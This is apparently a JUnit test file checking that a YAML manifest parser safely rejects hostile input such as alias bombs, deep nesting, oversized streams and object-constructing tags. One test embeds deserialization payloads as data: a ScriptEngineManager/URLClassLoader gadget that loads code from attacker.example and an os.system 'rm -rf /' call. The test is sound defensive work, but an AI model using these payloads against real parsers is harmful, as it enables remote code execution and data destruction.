package io.atoll.manifest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * atoll.yml comes from a pushed repository: whatever is in it ends in a ManifestException that
 * says where, quickly, and never in another exception, a constructed object or a hang.
 */
class HostileManifestTest {

    private static final Duration QUICKLY = Duration.ofSeconds(5);

    @Test
    void aBillionLaughsAliasBombIsRefusedAtItsFirstAnchor() {
        StringBuilder bomb = new StringBuilder("name: lol\ntype: java\nenv:\n  A: &a \"lol\"\n");
        bomb.append("x0: &x0 [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n");
        for (int i = 1; i < 30; i++) {
            String previous = "*x" + (i - 1);
            bomb.append("x").append(i).append(": &x").append(i).append(" [")
                    .append(String.join(", ", java.util.Collections.nCopies(9, previous))).append("]\n");
        }
        assertThat(errors(bomb.toString()))
                .containsExactly("atoll.yml:4:6: anchors (&a) are not allowed in atoll.yml");
        assertThat(errors("name: web\ntype: java\nrun: *cmd\n"))
                .singleElement().asString().startsWith("atoll.yml:3:6: ");
    }

    @Test
    void deepNestingIsRefusedWithItsLine() {
        String deep = "name: web\ntype: java\nenv:\n  A: " + "[".repeat(20_000) + "]".repeat(20_000) + "\n";
        assertThat(errors(deep)).containsExactly("atoll.yml:4:8: nested more than 4 levels deep");
        String blockDeep = "name: web\ntype: java\nresources:\n  a:\n    b:\n      c:\n        d: 1\n";
        assertThat(errors(blockDeep)).containsExactly("atoll.yml:7:9: nested more than 4 levels deep");
    }

    @Test
    void aFileOverSixtyFourKibibytesIsRefusedBeforeItIsParsed() {
        String huge = "name: web\ntype: java\n" + "# padding\n".repeat(7000);
        assertThat(huge.length()).isGreaterThan(AtollManifests.MAX_BYTES);
        assertThat(errors(huge)).containsExactly("atoll.yml: larger than 65536 bytes (64 KiB), the most Atoll reads");

        // A stream is read only one byte past the limit: an endless one costs no more than that.
        InputStream endless = new InputStream() {
            @Override
            public int read() {
                return '#';
            }
        };
        Throwable thrown = assertTimeoutPreemptively(QUICKLY, () -> catchThrowable(() -> AtollManifests.parse(endless)));
        assertThat(thrown).isInstanceOf(ManifestException.class).hasMessageContaining("larger than 65536 bytes");

        String justUnder = "name: web\ntype: java\n" + "#".repeat(AtollManifests.MAX_BYTES - 21);
        assertThat(justUnder.length()).isEqualTo(AtollManifests.MAX_BYTES);
        assertThat(AtollManifests.parse(justUnder).name()).isEqualTo("web");
    }

    @Test
    void aDuplicateKeyIsAnErrorNotLastWins() {
        assertThat(errors("name: web\ntype: java\nport: 8080\nport: 9090\n"))
                .containsExactly("atoll.yml:4:1: port: given twice (first on line 3)");
        assertThat(errors("name: web\ntype: java\nenv:\n  A: x\n  A: y\n"))
                .containsExactly("atoll.yml:5:3: env.A: given twice (first on line 4)");
    }

    @Test
    void tagsThatWouldConstructObjectsAreRefused() {
        assertThat(errors("name: web\ntype: java\nrun: !!javax.script.ScriptEngineManager "
                + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]\n"))
                .containsExactly("atoll.yml:3:6: tags (tag:yaml.org,2002:javax.script.ScriptEngineManager) "
                        + "are not allowed in atoll.yml");
        assertThat(errors("name: web\ntype: java\nbuild: !!python/object/apply:os.system [\"rm -rf /\"]\n"))
                .containsExactly("atoll.yml:3:8: tags (tag:yaml.org,2002:python/object/apply:os.system) "
                        + "are not allowed in atoll.yml");
        assertThat(errors("name: web\ntype: java\nport: !!int \"8080\"\n"))
                .containsExactly("atoll.yml:3:7: tags (tag:yaml.org,2002:int) are not allowed in atoll.yml");
    }

    @Test
    void bytesThatAreNotUtf8AreRefusedWithTheirPlace() {
        byte[] latin1 = "name: web\ntype: java\nenv:\n  CITY: K\u00f6ln\n".getBytes(StandardCharsets.ISO_8859_1);
        assertThat(errors(latin1)).containsExactly(
                "atoll.yml:4:10: byte 0xf6 is not UTF-8; atoll.yml must be UTF-8 text");
        byte[] utf8 = "name: web\ntype: java\nenv:\n  CITY: K\u00f6ln\n".getBytes(StandardCharsets.UTF_8);
        assertThat(AtollManifests.parse(utf8).env()).containsEntry("CITY", "K\u00f6ln");
    }

    @Test
    void controlCharactersAreRefusedWithTheirPlace() {
        assertThat(errors("name: web\ntype: java\nrun: echo \u0007\n"))
                .containsExactly("atoll.yml:3:11: character U+0007 is not allowed in YAML");
    }

    @Test
    void aSecondDocumentIsRefused() {
        assertThat(errors("name: web\ntype: java\n---\nname: evil\ntype: java\n"))
                .containsExactly("atoll.yml:3:1: a second document; atoll.yml holds one (remove the '---')");
        assertThat(AtollManifests.parse("---\nname: web\ntype: java\n...\n").name()).isEqualTo("web");
    }

    @Test
    void aTopLevelListScalarOrNothingIsRefused() {
        assertThat(errors("- name: web\n- type: java\n")).containsExactly(
                "atoll.yml:1:1: must be a mapping of fields (name: ..., type: ...), not a list");
        assertThat(errors("\n\njust some text\n")).containsExactly(
                "atoll.yml:3:1: must be a mapping of fields (name: ..., type: ...), not a single value");
        assertThat(errors("")).containsExactly("atoll.yml:1:1: the file is empty; name and type are required");
        assertThat(errors("# only a comment\n"))
                .containsExactly("atoll.yml:1:1: the file is empty; name and type are required");
    }

    @Test
    void aTabIndentingIsRefusedWithItsLine() {
        assertThat(errors("name: web\ntype: java\nenv:\n\tA: x\n"))
                .containsExactly("atoll.yml:4:1: a tab cannot indent YAML; use spaces");
    }

    @Test
    void malformedYamlIsAManifestExceptionWithItsLine() {
        assertThat(errors("name: web\ntype: java\nenv: {A: x\n")).singleElement().asString().startsWith("atoll.yml:4:");
        assertThat(errors("name: web\ntype: \"java\nport: 1\n")).singleElement().asString().startsWith("atoll.yml:");
        assertThat(errors("name: web\n  type: java\n")).singleElement().asString().startsWith("atoll.yml:2:");
        assertThat(errors("? [a, b]\n: c\nname: web\ntype: java\n"))
                .containsExactly("atoll.yml:1:3: a key must be a plain name, not a list");
    }

    @Test
    void valuesOfTheWrongTypeAreManifestErrors() {
        assertThat(errors("name: 12\ntype: true\nport: 80.5\n")).containsExactly(
                "atoll.yml:1:7: name: must be 2-40 characters: lower-case letters, digits and '-', "
                        + "starting with a letter and not ending with '-'",
                "atoll.yml:2:7: type: must be one of java, static, dockerfile, command",
                "atoll.yml:3:7: port: must be a whole number between 1 and 65535");
        assertThat(errors("name: web\ntype: java\nport: 99999999999999999999\n"))
                .containsExactly("atoll.yml:3:7: port: must be a whole number between 1 and 65535");
    }

    @Test
    void windowsLineEndingsCountLinesTheSame() {
        assertThat(errors("name: web\r\ntype: java\r\nport: 0\r\n"))
                .containsExactly("atoll.yml:3:7: port: must be a whole number between 1 and 65535");
    }

    @Test
    void anInputStreamIsReadLikeBytes() throws Exception {
        InputStream in = new ByteArrayInputStream("name: web\ntype: static\n".getBytes(StandardCharsets.UTF_8));
        assertThat(AtollManifests.parse(in).type()).isEqualTo(AppType.STATIC);
    }

    private static List<String> errors(String yaml) {
        return errors(yaml.getBytes(StandardCharsets.UTF_8));
    }

    private static List<String> errors(byte[] yaml) {
        Throwable thrown = assertTimeoutPreemptively(QUICKLY, () -> catchThrowable(() -> AtollManifests.parse(yaml)));
        assertThat(thrown).isInstanceOf(ManifestException.class);
        return ((ManifestException) thrown).errors().stream().map(ManifestError::toString).toList();
    }
}
